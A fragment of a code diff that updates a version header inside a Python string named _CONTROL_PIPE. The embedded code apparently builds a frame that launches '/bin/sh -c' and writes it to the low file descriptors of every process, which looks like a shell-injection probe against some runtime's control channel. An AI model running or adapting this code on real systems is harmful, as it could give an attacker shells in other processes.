@@ -72,7 +72,7 @@ time.sleep(0.3)
 """
 
 _CONTROL_PIPE = """
-head = struct.pack("<8sIIIIIIQ", b"CRUINIT1", 2, 0, 0, 32, 64, 0, 0)
+head = struct.pack("<8sIIIIIIQQ", b"CRUINIT2", 2, 0, 0, 32, 64, 0, 0, 0)
 frame = head + b"".join(struct.pack("<I", len(a)) + a for a in (b"/bin/sh", b"-c")) + b"END!"
 for pid in pids():
     for fd in range(0, 8):
